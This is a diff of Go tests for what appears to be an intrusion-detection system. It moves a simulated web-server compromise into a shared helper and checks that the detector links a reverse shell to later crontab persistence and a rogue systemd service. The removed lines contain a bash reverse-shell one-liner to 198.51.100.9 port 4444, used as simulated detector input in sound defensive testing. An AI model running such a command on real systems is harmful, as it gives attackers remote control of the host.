@@ -225,10 +225,7 @@ func TestPIDReuse(t *testing.T) {
 }
 
 func TestCronLink(t *testing.T) {
-	s := newSim(t, Options{})
-	s.webServer()
-	root := shellOf(200, worker1, "/var/www/html/uploads")
-	rev := s.find(s.exec(10, root, "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
+	s, root, rev := reverseShellScene(t)
 	ct := child(230, root)
 	inst := s.find(s.exec(20, ct, "crontab", "-"), detect.StagePersistence, detect.SeverityHigh, "Crontab Installed")
 	s.write(20.1, ct, parser.KindFileWrite, "/var/spool/cron/crontabs/tmp.X1")
@@ -258,10 +255,7 @@ func TestCronLink(t *testing.T) {
 // A cron job runs the crontab in force when it starts: once the admin has
 // replaced www-data's crontab, later jobs are no longer the attacker's.
 func TestCronLinkNewestInstall(t *testing.T) {
-	s := newSim(t, Options{})
-	s.webServer()
-	root := shellOf(200, worker1, "/var/www/html/uploads")
-	rev := s.find(s.exec(10, root, "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
+	s, root, rev := reverseShellScene(t)
 	ct := child(230, root)
 	s.find(s.exec(20, ct, "crontab", "-"), detect.StagePersistence, detect.SeverityHigh, "Crontab Installed")
 	s.touch(60, child(249, cronD))
@@ -277,10 +271,7 @@ func TestCronLinkNewestInstall(t *testing.T) {
 }
 
 func TestPeerLink(t *testing.T) {
-	s := newSim(t, Options{})
-	s.webServer()
-	root := shellOf(200, worker1, "/var/www/html/uploads")
-	rev := s.find(s.exec(10, root, "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
+	s, _, rev := reverseShellScene(t)
 	// a unit-level systemd service, started later by someone, connects to
 	// the same endpoint: the attacker's second foothold
 	svc := who{pid: 800, ppid: 1, uid: 0, exe: "/usr/local/bin/upd"}
